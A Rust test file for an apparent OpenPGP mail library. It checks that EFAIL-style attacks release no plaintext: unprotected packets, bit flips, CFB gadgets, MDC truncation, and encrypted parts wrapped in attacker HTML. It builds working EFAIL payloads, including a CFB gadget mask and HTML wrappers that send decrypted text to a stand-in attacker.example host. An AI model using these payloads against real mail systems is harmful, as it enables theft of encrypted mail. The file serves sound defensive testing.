//! The EFAIL corpus: no plaintext ever reaches the caller from a message without
//! integrity protection, from a modified message, from a CFB gadget, or from an
//! encrypted part that is not the top of the message.
// Helpers outside `#[test]` functions: in tests, failing loudly is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;

use std::process::Command;

use common::*;
use mail_builder::MessageBuilder;
use mail_builder::mime::MimePart;
use sealpost_pgp::{
    DecryptFailure, EncryptionStatus, KeyPair, OpenContext, OpenedMail, SignatureStatus, decrypt,
    encrypt, encrypt_mail, open_mail,
};
use sealpost_testkit::gnupg::GnupgHome;
use sequoia_openpgp as openpgp;

use openpgp::crypto::SessionKey;
use openpgp::packet::pkesk::PKESK3;
use openpgp::packet::{PKESK, Packet};
use openpgp::policy::StandardPolicy;
use openpgp::serialize::SerializeInto;
use openpgp::types::SymmetricAlgorithm;

const MARKER: &str = "EFAIL-SECRET-MARKER";

fn secret_plaintext(len: usize) -> Vec<u8> {
    let line = format!("{MARKER} the secret line that must never leak\n");
    line.as_bytes().iter().copied().cycle().take(len).collect()
}

fn assert_nothing_shown(opened: &OpenedMail) {
    for s in [&opened.text, &opened.html, &opened.subject]
        .into_iter()
        .flatten()
    {
        assert!(!s.contains(MARKER), "plaintext leaked: {s}");
        assert!(!s.contains("Tuesday"), "plaintext leaked: {s}");
    }
    for a in &opened.attachments {
        let shown = String::from_utf8_lossy(&a.data);
        assert!(!shown.contains(MARKER) && !shown.contains("Tuesday"));
    }
    assert!(!matches!(
        opened.signature,
        SignatureStatus::Verified { .. } | SignatureStatus::ValidUnconfirmed { .. }
    ));
}

fn openssl_cfb(key: &[u8], iv: &[u8], data: &[u8]) -> Vec<u8> {
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    let output = dir.path().join("out");
    std::fs::write(&input, data).unwrap();
    let status = Command::new("openssl")
        .args([
            "enc",
            "-aes-256-cfb",
            "-nopad",
            "-K",
            &hex(key),
            "-iv",
            &hex(iv),
            "-in",
        ])
        .arg(&input)
        .arg("-out")
        .arg(&output)
        .status()
        .unwrap();
    assert!(status.success());
    std::fs::read(output).unwrap()
}

/// A real, decryptable message in the old, unprotected format: a PKESK for `to`, then a
/// Symmetrically Encrypted Data packet (tag 9, OpenPGP CFB with resync, no MDC).
fn sed_message(to: &KeyPair, plaintext: &[u8], at: std::time::SystemTime) -> Vec<u8> {
    let session = [0x42u8; 32];
    let p = StandardPolicy::new();
    let cert = to.cert();
    let key = cert
        .keys()
        .with_policy(&p, at)
        .for_transport_encryption()
        .next()
        .unwrap();
    let pkesk = PKESK3::for_recipient(
        SymmetricAlgorithm::AES256,
        &SessionKey::from(&session[..]),
        key.key(),
    )
    .unwrap();
    let mut out = Packet::PKESK(PKESK::from(pkesk)).to_vec().unwrap();

    let mut literal_body = vec![b'b', 0, 0, 0, 0, 0];
    literal_body.extend_from_slice(plaintext);
    let literal = packet(11, &literal_body);
    let mut prefix: Vec<u8> = (1..=16u8).collect();
    prefix.extend_from_slice(&[15, 16]);
    let c1 = openssl_cfb(&session, &[0u8; 16], &prefix);
    let c2 = openssl_cfb(&session, &c1[2..18], &literal);
    let mut sed = c1;
    sed.extend_from_slice(&c2);
    out.extend_from_slice(&packet(9, &sed));
    out
}

#[test]
fn sed_without_mdc_is_refused_although_it_decrypts_in_gpg() {
    let t = t0();
    let alice = keypair("Alice", "alice@example.org", t);
    let bob = keypair("Bob", "bob@example.org", t);
    let plaintext = secret_plaintext(300);
    let binary = sed_message(&bob, &plaintext, t);

    // Proof that the packet is real: gpg decrypts it when told to ignore the missing MDC.
    let home = GnupgHome::new().unwrap();
    let (export, pass) = bob.export_protected().unwrap();
    home.import(export.as_bytes()).unwrap();
    let out = home
        .run(
            &[
                "--passphrase",
                pass.expose(),
                "--ignore-mdc-error",
                "--decrypt",
            ],
            &binary,
        )
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(MARKER),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let own = [bob.clone()];
    let known = [alice.cert()];
    let ctx = OpenContext::new(&own, &known, t);
    assert_eq!(
        decrypt(&binary, &ctx).unwrap_err(),
        DecryptFailure::NoIntegrityProtection
    );
    let armored = armor(&binary);
    assert_eq!(
        decrypt(&armored, &ctx).unwrap_err(),
        DecryptFailure::NoIntegrityProtection
    );
    let opened = open_mail(
        &wrap_pgp_mime("alice@example.org", "bob@example.org", &armored),
        &ctx,
    )
    .unwrap();
    assert_eq!(
        opened.encryption,
        EncryptionStatus::CannotDecrypt(DecryptFailure::NoIntegrityProtection)
    );
    assert_nothing_shown(&opened);
}

#[test]
fn bit_flips_anywhere_give_no_plaintext() {
    let t = t0();
    let alice = keypair("Alice", "alice@example.org", t);
    let bob = keypair("Bob", "bob@example.org", t);
    let own = [bob.clone()];
    let known = [alice.cert()];
    let ctx = OpenContext::new(&own, &known, t);
    let armored = encrypt(&secret_plaintext(5000), &alice, &[bob.cert()], t).unwrap();
    let binary = dearmor(&armored);
    assert!(
        decrypt(&binary, &ctx).is_ok(),
        "the unmodified message decrypts"
    );

    // Flips inside a session-key packet meant for someone else (Alice's copy) leave the
    // encrypted data untouched: the message may then decrypt, but only to the original.
    // Everywhere from the encrypted container on, nothing may come out.
    let packets = split_packets(&binary);
    let seip_start: usize = packets
        .iter()
        .take_while(|(tag, _)| *tag != 18)
        .map(|(tag, body)| packet(*tag, body).len())
        .sum();
    let original = secret_plaintext(5000);
    let len = binary.len();
    let mut positions: Vec<usize> = (0..len).step_by(53).collect();
    positions.extend([
        len - 1,
        len - 2,
        len - 10,
        len - 21,
        len - 22,
        len - 23,
        len / 2,
        200,
        220,
        240,
    ]);
    for pos in positions {
        for bit in [0x01u8, 0x80] {
            let mut modified = binary.clone();
            modified[pos] ^= bit;
            match decrypt(&modified, &ctx) {
                Err(_) => {}
                Ok(d) if pos < seip_start && d.plaintext == original => {}
                Ok(d) => panic!(
                    "flip at {pos} returned {} bytes of plaintext",
                    d.plaintext.len()
                ),
            }
            if pos >= seip_start && pos % 5 == 0 {
                let raw = wrap_pgp_mime("alice@example.org", "bob@example.org", &armor(&modified));
                let opened = open_mail(&raw, &ctx).unwrap();
                assert!(matches!(
                    opened.encryption,
                    EncryptionStatus::CannotDecrypt(_)
                ));
                assert_nothing_shown(&opened);
            }
        }
    }
}

#[test]
fn a_modification_after_sequoias_streaming_buffer_still_releases_nothing() {
    // Sequoia releases plaintext after 25 MiB before it has seen the MDC; our decrypt
    // must not. 30 MiB, one flipped bit in the last kilobyte.
    let t = t0();
    let alice = keypair("Alice", "alice@example.org", t);
    let bob = keypair("Bob", "bob@example.org", t);
    let own = [bob.clone()];
    let known = [alice.cert()];
    let ctx = OpenContext::new(&own, &known, t);
    let armored = encrypt(&secret_plaintext(30 << 20), &alice, &[bob.cert()], t).unwrap();
    let mut binary = dearmor(&armored);
    let near_end = binary.len() - 600;
    binary[near_end] ^= 0x10;
    let failure = decrypt(&binary, &ctx).unwrap_err();
    assert!(
        matches!(
            failure,
            DecryptFailure::IntegrityCheckFailed | DecryptFailure::Malformed(_)
        ),
        "{failure:?}"
    );
}

#[test]
fn cfb_gadgets_injected_into_the_ciphertext_are_caught() {
    let t = t0();
    let alice = keypair("Alice", "alice@example.org", t);
    let bob = keypair("Bob", "bob@example.org", t);
    let own = [bob.clone()];
    let known = [alice.cert()];
    let ctx = OpenContext::new(&own, &known, t);
    let armored = encrypt(&secret_plaintext(2000), &alice, &[bob.cert()], t).unwrap();
    let packets = split_packets(&dearmor(&armored));
    let seip = packets.iter().position(|(tag, _)| *tag == 18).unwrap();
    assert!(
        decrypt(&join_packets(&packets), &ctx).is_ok(),
        "re-encoding alone is fine"
    );

    // SEIPD v1 body: version byte, then CFB ciphertext in 16-byte blocks. A gadget is a
    // pair of blocks (C_i, C_{i+1} ^ mask): it decrypts to one garbage block and then
    // the attacker's chosen change of a known plaintext block.
    let body = &packets[seip].1;
    let ct = &body[1..];
    let mask = {
        let mut m = [0u8; 16];
        for (i, b) in b"<img src=\"http:/".iter().enumerate() {
            m[i] = *b ^ b'A';
        }
        m
    };
    for (gadget_at, insert_at) in [
        (0usize, 16usize),
        (16, 48),
        (32, 160),
        (0, ct.len() / 32 * 16),
        (48, ct.len() - 16),
    ] {
        let mut gadget = ct[gadget_at..gadget_at + 32].to_vec();
        for i in 0..16 {
            gadget[16 + i] ^= mask[i];
        }
        let mut new_ct = ct[..insert_at].to_vec();
        new_ct.extend_from_slice(&gadget);
        new_ct.extend_from_slice(&ct[insert_at..]);
        let mut new_body = vec![body[0]];
        new_body.extend_from_slice(&new_ct);
        let mut forged = packets.clone();
        forged[seip].1 = new_body;
        let forged = join_packets(&forged);
        let result = decrypt(&forged, &ctx);
        assert!(
            result.is_err(),
            "gadget at {gadget_at} -> {insert_at} decrypted"
        );
        let opened = open_mail(
            &wrap_pgp_mime("alice@example.org", "bob@example.org", &armor(&forged)),
            &ctx,
        )
        .unwrap();
        assert!(matches!(
            opened.encryption,
            EncryptionStatus::CannotDecrypt(_)
        ));
        assert_nothing_shown(&opened);
    }

    // Cutting the MDC packet off (and fixing the length) is caught too.
    let mut cut = packets.clone();
    let l = cut[seip].1.len();
    cut[seip].1.truncate(l - 22);
    assert!(decrypt(&join_packets(&cut), &ctx).is_err());
}

fn encrypted_to_bob(t: std::time::SystemTime) -> (KeyPair, KeyPair, Vec<u8>, Vec<u8>) {
    let alice = keypair("Alice", "alice@example.org", t);
    let bob = keypair("Bob", "bob@example.org", t);
    let raw = encrypt_mail(
        &outgoing("alice@example.org", &["bob@example.org"]),
        &alice,
        &[bob.cert()],
        t,
    )
    .unwrap();
    let armored = pgp_mime_payload(&raw);
    (alice, bob, raw, armored)
}

#[test]
fn an_encrypted_part_between_plain_parts_is_not_decrypted() {
    let t = t0();
    let (alice, bob, _raw, armored) = encrypted_to_bob(t);
    let raw = MessageBuilder::new()
        .from("alice@example.org")
        .to("bob@example.org")
        .subject("harmless")
        .body(MimePart::new(
            "multipart/mixed",
            vec![
                MimePart::new("text/html", "<img src=\"http://attacker.example/?"),
                pgp_mime_body(&armored),
                MimePart::new("text/html", "\">"),
            ],
        ))
        .write_to_vec()
        .unwrap();
    let own = [bob];
    let known = [alice.cert()];
    let opened = open_mail(&raw, &OpenContext::new(&own, &known, t)).unwrap();
    assert_eq!(opened.encryption, EncryptionStatus::NotEncrypted);
    assert_eq!(opened.signature, SignatureStatus::Unsigned);
    assert_nothing_shown(&opened);

    // Plain text around it, multipart/mixed: same.
    let raw = MessageBuilder::new()
        .from("alice@example.org")
        .to("bob@example.org")
        .subject("harmless")
        .body(MimePart::new(
            "multipart/mixed",
            vec![
                MimePart::new("text/plain", "Look at this:"),
                pgp_mime_body(&armored),
                MimePart::new("text/plain", "Thanks"),
            ],
        ))
        .write_to_vec()
        .unwrap();
    let opened = open_mail(&raw, &OpenContext::new(&own, &known, t)).unwrap();
    assert_eq!(opened.encryption, EncryptionStatus::NotEncrypted);
    assert!(opened.text.as_deref().unwrap().contains("Look at this:"));
    assert_nothing_shown(&opened);
}

#[test]
fn inline_pgp_wrapped_in_html_or_text_is_not_decrypted() {
    let t = t0();
    let (alice, bob, _raw, armored) = encrypted_to_bob(t);
    let block = String::from_utf8(armored).unwrap();
    let own = [bob];
    let known = [alice.cert()];
    let ctx = OpenContext::new(&own, &known, t);

    let html = format!("<html><body><img src=\"http://attacker.example/?{block}\"></body></html>");
    let raw = MessageBuilder::new()
        .from("alice@example.org")
        .to("bob@example.org")
        .subject("x")
        .html_body(html)
        .write_to_vec()
        .unwrap();
    let opened = open_mail(&raw, &ctx).unwrap();
    assert_eq!(opened.encryption, EncryptionStatus::NotEncrypted);
    assert_nothing_shown(&opened);

    for body in [
        format!("Attacker text before\n{block}"),
        format!("{block}\nAttacker text after"),
        format!("{block}\n{block}"),
    ] {
        let raw = plain_mail("alice@example.org", "bob@example.org", "x", &body);
        let opened = open_mail(&raw, &ctx).unwrap();
        assert_eq!(opened.encryption, EncryptionStatus::NotEncrypted);
        assert_nothing_shown(&opened);
    }

    // The same block alone in the body is read (control).
    let raw = plain_mail("alice@example.org", "bob@example.org", "x", &block);
    assert_eq!(
        open_mail(&raw, &ctx).unwrap().encryption,
        EncryptionStatus::Encrypted
    );
}

#[test]
fn aead_seipdv2_is_read_and_modified_aead_messages_give_nothing() {
    // Sealpost writes SEIPDv1, but reads SEIPDv2 (AEAD) from keys that advertise it, such
    // as ones made by Sequoia with its defaults.
    use openpgp::cert::prelude::*;
    use openpgp::serialize::Serialize;
    let t = t0();
    let make = |addr: &str| {
        let (tsk, _) = CertBuilder::general_purpose(Some(addr))
            .set_creation_time(t)
            .generate()
            .unwrap();
        let mut bytes = Vec::new();
        tsk.as_tsk().serialize(&mut bytes).unwrap();
        KeyPair::from_secret_bytes(&bytes, t).unwrap()
    };
    let carol = make("carol@example.org");
    let dave = make("dave@example.org");
    let armored = encrypt(&secret_plaintext(3000), &carol, &[dave.cert()], t).unwrap();
    let binary = dearmor(&armored);
    let packets = split_packets(&binary);
    let (_, seip) = packets.iter().find(|(tag, _)| *tag == 18).unwrap();
    assert_eq!(seip[0], 2, "SEIPDv2 (AEAD)");
    let own = [dave.clone()];
    let known = [carol.cert()];
    let ctx = OpenContext::new(&own, &known, t);
    assert_eq!(
        decrypt(&binary, &ctx).unwrap().plaintext,
        secret_plaintext(3000)
    );
    let seip_start: usize = packets
        .iter()
        .take_while(|(tag, _)| *tag != 18)
        .map(|(tag, body)| packet(*tag, body).len())
        .sum();
    for pos in (seip_start + 40..binary.len())
        .step_by(97)
        .chain([binary.len() - 1])
    {
        let mut modified = binary.clone();
        modified[pos] ^= 0x04;
        assert!(
            decrypt(&modified, &ctx).is_err(),
            "AEAD flip at {pos} decrypted"
        );
    }
}
